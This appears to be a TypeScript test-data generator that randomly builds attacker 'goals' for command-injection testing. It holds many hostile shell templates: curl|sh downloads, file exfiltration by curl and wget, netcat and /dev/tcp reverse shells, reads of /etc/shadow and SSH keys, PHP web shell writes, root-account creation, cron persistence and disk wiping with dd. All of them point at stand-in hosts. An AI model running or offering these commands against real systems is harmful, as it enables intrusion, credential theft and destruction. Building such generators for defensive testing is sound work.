import type { Random } from '../../lib/random.ts';

/** What an attacker wants a shell to do: a statement, and what kind it is. */
export interface Goal {
  readonly kind: string;
  readonly text: string;
}

const letters = 'abcdefghijklmnopqrstuvwxyz';

/** A name that no program has. */
export function someName(random: Random): string {
  return `${random.pick([...letters])}${random.times(2 + random.below(5), () => random.pick([...`${letters}0123456789`])).join('')}${random.below(90)}`;
}

const address = (random: Random): string =>
  random.pick([
    `10.${random.below(256)}.${random.below(256)}.${1 + random.below(254)}`,
    `192.168.${random.below(256)}.${1 + random.below(254)}`,
    `203.0.113.${1 + random.below(254)}`,
  ]);
const port = (random: Random): number => random.pick([53, 80, 443, 1337, 4242, 4444, 8080, 9001]);
const hostName = (random: Random): string =>
  `${someName(random)}.${random.pick(['example', 'test', 'invalid', 'example.net'])}`;
const secretFile = (random: Random): string =>
  random.pick([
    ...['/etc/passwd', '/etc/shadow', '.env', './config.php', '/root/.ssh/id_rsa', '~/app/.env'],
    ...['/home/ann/.bash_history', '../../../etc/passwd', '/var/www/app/config.php', '$PWD/.env'],
  ]);
const folder = (random: Random): string =>
  random.pick(['/', '/tmp', '..', '/home', '/var/www', '~', '/etc', '.']);
const writable = (random: Random): string =>
  random.pick([
    `${someName(random)}.php`,
    `/tmp/${someName(random)}`,
    `uploads/${someName(random)}.sh`,
    'index.php',
    '../app/.htaccess',
  ]);

type Make = (random: Random) => string;

const plain: Make = (r) =>
  r.pick([
    ...['id', 'whoami', 'uname -a', 'hostname', 'ps aux', 'ifconfig', 'ip addr', 'netstat -an'],
    ...['uptime', 'df -h', 'ss -tlnp', 'lsof -i', 'dmesg', 'id -u', 'hostname -I', 'ps -ef', 'ls'],
  ]);

const goals: Readonly<Record<string, Make>> = {
  program: plain,
  list: (r) => `ls ${r.pick(['-la ', '-l ', '', '-R ', '-1 '])}${folder(r)}`,
  'read a file': (r) => {
    const how = r.pick([
      ...['cat', 'cat -n', 'head', 'tail', 'nl', 'tac', 'od -c', 'grep .', 'sort', 'base64', 'xxd'],
      ...[
        'sed -n 1,9p',
        'awk 1',
        'cut -d: -f1',
        'strings',
        'rev',
        'wc -c',
        'uniq',
        `head -n ${1 + r.below(20)}`,
      ],
    ]);
    return `${how} ${secretFile(r)}`;
  },
  'read by redirection': (r) =>
    r.pick([
      `while read ${'x'};do echo $x;done<${secretFile(r)}`,
      `read ${someName(r)}<${secretFile(r)}`,
      `. ${secretFile(r)}`,
      `rev<${secretFile(r)}|rev`,
    ]),
  download: (r) => {
    const url = `http://${r.pick([address(r), hostName(r)])}/${someName(r)}`;
    return r.pick([
      `curl ${url}|sh`,
      `curl -s ${url} -o /tmp/${someName(r)}`,
      `wget -qO- ${url}|sh`,
      `wget ${url} -O ${writable(r)}`,
      `tftp -g -r ${someName(r)} ${address(r)}`,
      `curl -d @${secretFile(r)} ${url}`,
      `wget --post-file=/etc/passwd ${url}`,
    ]);
  },
  connect: (r) =>
    r.pick([
      `nc ${address(r)} ${port(r)} -e /bin/sh`,
      `nc -lvp ${port(r)}`,
      `socat tcp:${address(r)}:${port(r)} exec:sh`,
      `telnet ${address(r)} ${port(r)}|sh`,
      `ncat ${hostName(r)} ${port(r)}`,
      `mkdir -p /tmp/${someName(r)}&&nc ${address(r)} ${port(r)}</etc/passwd`,
    ]),
  'out of band': (r) =>
    r.pick([
      `nslookup ${hostName(r)}`,
      `nslookup $(whoami).${hostName(r)}`,
      `ping -c ${1 + r.below(9)} ${r.pick([address(r), hostName(r)])}`,
      `curl ${hostName(r)}/$(id)`,
      `dig +short ${hostName(r)}`,
      `whois -h ${address(r)} x`,
    ]),
  delay: (r) => r.pick([`sleep ${1 + r.below(30)}`, `ping -c ${3 + r.below(20)} 127.0.0.1`]),
  write: (r) =>
    r.pick([
      `echo ${someName(r)}>${writable(r)}`,
      `echo ${someName(r)} >> ${writable(r)}`,
      `printf ${someName(r)}|tee ${writable(r)}`,
      `touch ${writable(r)}`,
      `rm -rf ${r.pick(['uploads', '/tmp/*', '.', '*', '/var/www/app'])}`,
      `cp ${secretFile(r)} uploads`,
      `mv index.php ${someName(r)}`,
      `chmod ${r.pick(['777', '4755', '+x'])} ${writable(r)}`,
      `echo '<?php ${r.pick(['phpinfo();', 'system($_GET[0]);'])}'>${writable(r)}`,
      `mkdir ${someName(r)}`,
    ]),
  interpreter: (r) =>
    r.pick([
      `python3 -c 'import os;os.system("${plain(r)}")'`,
      `perl -e 'system("${plain(r)}")'`,
      `ruby -e 'puts \`${plain(r)}\`'`,
      `php -r 'system("${plain(r)}");'`,
      `node -e 'require("child_process").exec("${plain(r)}")'`,
      `python -c print\\(${r.below(99)}\\)`,
      `perl -e print+${r.below(99)}`,
      `lua -e 'os.execute("${plain(r)}")'`,
    ]),
  'run by a utility': (r) =>
    r.pick([
      `awk 'BEGIN{system("${plain(r)}")}'`,
      `find ${folder(r)} -maxdepth 1 -exec id {} \\;`,
      `echo ${secretFile(r)}|xargs cat`,
      `echo ${plain(r)}|sh`,
      `env ${plain(r)}`,
      `timeout ${1 + r.below(9)} ${plain(r)}`,
      `nohup ${plain(r)}`,
      `busybox ${r.pick(['cat', 'head', 'tac'])} ${secretFile(r)}`,
      `xargs -a ${secretFile(r)} echo`,
      `find . -name ${r.pick(['\\*', '.env'])} -exec head {} +`,
    ]),
  'show secrets': (r) =>
    r.pick([
      'env',
      'set',
      'printenv',
      'export -p',
      'echo $DB_PASSWORD',
      'printenv API_KEY',
      'echo $API_KEY|rev|rev',
    ]),
  account: (r) =>
    r.pick([
      `useradd -o -u 0 ${someName(r)}`,
      `sudo -l`,
      `crontab -l`,
      `echo '* * * * * ${plain(r)}'|crontab -`,
      `su -c ${plain(r).split(' ')[0]}`,
      `passwd -d root`,
      `ssh -i /root/.ssh/id_rsa ${address(r)}`,
    ]),
  'end the machine': (r) =>
    r.pick([
      'reboot',
      'shutdown -h now',
      '/bin/kill -9 -1',
      `killall ${someName(r)}`,
      'systemctl stop ssh',
      'dd if=/dev/zero of=/dev/sda',
    ]),
};

const bashGoals: Readonly<Record<string, Make>> = {
  'connect by the shell': (r) =>
    r.pick([
      `bash -i >& /dev/tcp/${address(r)}/${port(r)} 0>&1`,
      `exec ${5 + r.below(3)}<>/dev/tcp/${address(r)}/${port(r)}`,
      `echo ${someName(r)} > /dev/udp/${address(r)}/${port(r)}`,
      `cat /etc/passwd >/dev/tcp/${address(r)}/${port(r)}`,
    ]),
  'read by the shell': (r) =>
    r.pick([
      `echo "$(<${secretFile(r)})"`,
      `mapfile ${someName(r)}<${secretFile(r)}`,
      `echo $(<${secretFile(r)})`,
      `source ${secretFile(r)}`,
    ]),
};

/** A goal in a dialect; quotes and dollar signs only where the place of the value bears them. */
export function goal(
  random: Random,
  { isBash, isPlain }: { readonly isBash: boolean; readonly isPlain: boolean },
): Goal {
  const table = Object.entries(isBash && random.chance(15) ? bashGoals : goals);
  for (let tries = 0; tries < 20; tries += 1) {
    const [kind, make] = random.pick(table);
    const text = make(random);
    if (!isPlain || !/['"`$\\]/.test(text)) return { kind, text };
  }
  return { kind: 'program', text: plain(random) };
}
